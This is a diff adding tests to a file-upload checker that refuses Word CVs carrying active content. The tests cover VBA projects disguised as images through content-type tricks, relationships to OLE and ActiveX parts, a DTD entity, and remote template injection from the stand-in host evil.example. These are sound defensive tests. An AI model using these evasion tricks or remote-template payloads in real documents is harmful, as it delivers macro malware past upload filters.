@@ -12,11 +12,14 @@ import {
   docm,
   docx,
   docxWithMacros,
+  docxWithRenamedMacros,
   exe,
   pdf,
   pdfOfSize,
   plainZip,
+  relationships,
   wordContentTypes,
+  wordContentTypesWith,
 } from '@/tests/support/files';
 
 const MiB = 1024 * 1024;
@@ -116,6 +119,111 @@ describe('checkFileBytes on a Word document with macros', () => {
     expect(await checkFileBytes('cv.docx', docxWithMacros('word/media/vbaProject.bin.png'))).toMatchObject({
       ok: true,
     });
+  });
+});
+
+describe('checkFileBytes on a Word document with active content under other names', () => {
+  const VBA = 'application/vnd.ms-office.vbaProject';
+  const relationship = (type: string, target: string, external = false) =>
+    `Id="rId9" Type="${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}`;
+  const withRelationships = (...entries: string[]) =>
+    docx(undefined, { 'word/_rels/document.xml.rels': relationships(...entries) });
+  const OFFICE_2006 = 'http://schemas.microsoft.com/office/2006/relationships';
+  const OFFICE_DOCUMENT = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+
+  it.each([
+    [
+      'typed a VBA project by an Override',
+      wordContentTypesWith(`<Override PartName="/word/media/image1.png" ContentType="${VBA}"/>`),
+    ],
+    [
+      'typed a VBA project by a Default extension',
+      wordContentTypesWith(`<Default Extension="png" ContentType="${VBA}"/>`),
+    ],
+    [
+      'attached only by its relationship (typed as an image)',
+      wordContentTypesWith('<Default Extension="png" ContentType="image/png"/>'),
+    ],
+    [
+      'typed with character references',
+      wordContentTypesWith(
+        `<Override PartName="/word/media/image1.png" ContentType="application/vnd.ms-office.&#x76;ba&#80;roject"/>`,
+      ),
+    ],
+  ])('refuses a VBA project renamed word/media/image1.png, %s', async (_, contentTypes) => {
+    expect(await checkFileBytes('cv.docx', docxWithRenamedMacros(contentTypes))).toEqual(refusedAs('type'));
+  });
+
+  it.each([
+    ['a macro-enabled main document', 'application/vnd.ms-word.document.macroEnabled.main+xml'],
+    ['a macro-enabled template', 'application/vnd.ms-word.template.macroEnabledTemplate.main+xml'],
+    ['an ActiveX control', 'application/vnd.ms-office.activeX+xml'],
+    ['an OLE object', 'application/vnd.openxmlformats-officedocument.oleObject'],
+  ])('refuses content types that declare %s', async (_, type) => {
+    const types = wordContentTypesWith(`<Override PartName="/word/activeX/activeX1.xml" ContentType="${type}"/>`);
+    expect(await checkFileBytes('cv.docx', docx(undefined, { '[Content_Types].xml': types }))).toEqual(
+      refusedAs('type'),
+    );
+  });
+
+  it.each([
+    ['a VBA project', `${OFFICE_2006}/vbaProject`, 'vbaProject.bin'],
+    ['VBA data', `${OFFICE_2006}/wordVbaData`, 'vbaData.xml'],
+    ['an OLE object', `${OFFICE_DOCUMENT}/oleObject`, 'embeddings/oleObject1.bin'],
+    ['an ActiveX control', `${OFFICE_DOCUMENT}/control`, 'activeX/activeX1.xml'],
+    ['an ActiveX binary', `${OFFICE_2006}/activeXControlBinary`, 'activeX/activeX1.bin'],
+    [
+      'an OLE object in the strict schema',
+      'http://purl.oclc.org/ooxml/officeDocument/relationships/oleObject',
+      'o.bin',
+    ],
+  ])('refuses a relationship to %s, whatever its target is called', async (_, type, target) => {
+    expect(await checkFileBytes('cv.docx', withRelationships(relationship(type, `media/${target}.png`)))).toEqual(
+      refusedAs('type'),
+    );
+  });
+
+  it.each([
+    ['over HTTP', 'https://evil.example/macros.dotm'],
+    ['from a network share', '\\\\evil.example\\share\\macros.dotm'],
+    ['from a file URL on another machine', 'file://evil.example/share/macros.dotm'],
+  ])('refuses a template fetched %s when the document opens', async (_, target) => {
+    const settings = relationships(relationship(`${OFFICE_DOCUMENT}/attachedTemplate`, target, true));
+    expect(await checkFileBytes('cv.docx', docx(undefined, { 'word/_rels/settings.xml.rels': settings }))).toEqual(
+      refusedAs('type'),
+    );
+  });
+
+  it("accepts the author's own template on their disk, links and pictures: what ordinary CVs hold", async () => {
+    const cv = docx(undefined, {
+      'word/_rels/settings.xml.rels': relationships(
+        relationship(
+          `${OFFICE_DOCUMENT}/attachedTemplate`,
+          'file:///C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Templates\\CV.dotx',
+          true,
+        ),
+      ),
+      'word/_rels/document.xml.rels': relationships(
+        relationship(`${OFFICE_DOCUMENT}/hyperlink`, 'https://www.linkedin.com/in/ana', true),
+        relationship(`${OFFICE_DOCUMENT}/image`, 'media/image1.png'),
+      ),
+      'word/media/image1.png': '\x89PNG',
+    });
+    expect(await checkFileBytes('cv.docx', cv)).toMatchObject({ ok: true });
+  });
+
+  it('refuses a part holding a compound file (what VBA projects and OLE objects are), whatever it is called', async () => {
+    const compound = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504)]);
+    expect(await checkFileBytes('cv.docx', docx(undefined, { 'word/media/image1.png': deflated(compound) }))).toEqual(
+      refusedAs('type'),
+    );
+  });
+
+  it('refuses content types or relationships with a DTD, which packages may not carry', async () => {
+    const types = wordContentTypes.replace('?>', '?><!DOCTYPE Types [<!ENTITY v "vbaProject">]>');
+    expect(await checkFileBytes('cv.docx', docx(undefined, { '[Content_Types].xml': types }))).toEqual(
+      refusedAs('type'),
+    );
   });
 });
 
